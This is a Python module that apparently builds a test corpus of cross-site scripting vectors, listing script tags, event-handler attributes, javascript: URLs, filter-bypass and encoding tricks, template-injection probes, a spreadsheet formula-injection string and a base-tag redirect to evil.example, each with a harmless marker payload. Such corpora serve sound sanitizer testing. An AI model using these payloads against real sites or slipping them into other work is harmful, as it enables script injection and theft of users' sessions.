"""Ways in which text has got itself run by a browser: each would call ``hit()`` or open a dialog."""

from __future__ import annotations

H = "window.hit=1"
_EVENTS = """onload onerror onclick onmouseover onfocus onblur onanimationstart ontoggle onpointerenter onscroll onbeforetoggle onwheel
    onbegin onend onrepeat onhashchange onpageshow oncontentvisibilityautostatechange onsecuritypolicyviolation""".split()
_ELEMENTS = """svg body video audio details input select textarea marquee iframe object embed form keygen style math table img math
    picture source track dialog button""".split()
_TAGS = (
    f"<script>{H}</script>", f"<SCRIPT>{H}</SCRIPT>", f"<script src=data:text/javascript,{H}></script>", f"<script/x>{H}</script>",
    f"<scr<script>ipt>{H}</scr</script>ipt>", f"</title><script>{H}</script>", f"</textarea><script>{H}</script>",
    f"</style><script>{H}</script>", f"</script><script>{H}</script>", f"</option></select><script>{H}</script>",
    f"--><script>{H}</script><!--", f"]]><script>{H}</script>", f"<![CDATA[<script>{H}</script>]]>", f"<noscript><p title=\"</noscript><img src=x onerror={H}>\">",
    f"<template><script>{H}</script></template>", f"<svg><script>{H}</script></svg>", f"<svg><style><img src=x onerror={H}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={H}>", f"<img src=x onerror={H}>", f"<img src=x onerror={H}//",
    f"<img/src='x'/onerror={H}>", f"<img src=x:x onerror\n=\n{H}>", f"<img src='x' onerror='{H}'", f"<IMG SRC=x oNeRrOr={H}>",
    f"<svg/onload={H}>", f"<svg><animate onbegin={H} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{H}><text y=9>x</text></a></svg>",
    f"<body onload={H}>", f"<video><source onerror={H}></video>", f"<audio src=x onerror={H}>", f"<details open ontoggle={H}>",
    f"<input autofocus onfocus={H}>", f"<select autofocus onfocus={H}>", f"<textarea autofocus onfocus={H}>", f"<marquee onstart={H}>",
    f"<iframe srcdoc='<script>parent.{H}</script>'>", f"<iframe src=javascript:parent.{H}>", f"<object data=javascript:{H}>",
    f"<embed src=javascript:{H}>", f"<form action=javascript:{H}><button>x</button></form>", f"<button formaction=javascript:{H}>x</button>",
    f"<a href=javascript:{H}>x</a>", f"<a href='java\tscript:{H}'>x</a>", f"<a href=' javascript:{H}'>x</a>", f"<a href=\"data:text/html,<script>{H}</script>\">x</a>",
    f"<link rel=stylesheet href=data:text/css,*{{}} onload={H}>", f"<meta http-equiv=refresh content='0;url=javascript:{H}'>",
    "<base href=//evil.example/>", f"<style>@import 'javascript:{H}';</style>", f"<div style='background:url(javascript:{H})'>",
    f"<x onclick={H} autofocus tabindex=1>x", f"<xss contenteditable onblur={H} autofocus tabindex=1>", f"<p hx-get=/ hx-trigger=load hx-on::load='{H}'>",
    f"<div hx-on:htmx:load='{H}' hx-trigger='load[{H}]' hx-get='/'>", f"<div data-hx-vals='js:{{x:{H}}}' data-hx-get=/ data-hx-trigger=load>",
)  # fmt: skip
_QUOTES = (
    f"\" onmouseover={H} x=\"", f"' onmouseover={H} x='", f"\"><img src=x onerror={H}>", f"'><img src=x onerror={H}>", f"` onmouseover={H} `",
    f"\" autofocus onfocus={H} x=\"", f"' autofocus onfocus={H} x='", f"\"/><svg onload={H}>", f"\\\" onmouseover={H}", f"\\'-{H}-\\'",
    f"'-{H}-'", f"\";{H};//", f"';{H};//", f"${{{H}}}", f"{{{{constructor.constructor('{H}')()}}}}", "{{ 7*7 }}{% raw %}", "<%= 7*7 %>", "#{7*7}",
    f"&lt;script&gt;{H}&lt;/script&gt;", f"&#60;script&#62;{H}&#60;/script&#62;", f"\\u003cscript\\u003e{H}\\u003c/script\\u003e",
    f"%3Cscript%3E{H}%3C/script%3E", f"javascript:{H}", f"JaVaScRiPt:{H}", f"java\nscript:{H}", f"data:text/html,<script>{H}</script>",
    f"vbscript:{H}", f"//evil.example/{H}", f"\u202e<b onmouseover={H}>", f"\ufeff<script>{H}</script>", f"+ADw-script+AD4-{H}+ADw-/script+AD4-",
    f"\x00<script>{H}</script>", f"<script>{H}</script\x0c>", f"\u2028<img src=x onerror={H}>", f"=cmd|'/c {H}'!A1", f"<<script>{H}//<</script>",
)  # fmt: skip
_MADE = tuple(f"<{element} {event}={H} tabindex=1 autofocus src=x>x" for element, event in zip(_ELEMENTS, _EVENTS * 2, strict=False))
VECTORS = tuple(dict.fromkeys((*_TAGS, *_QUOTES, *_MADE)))
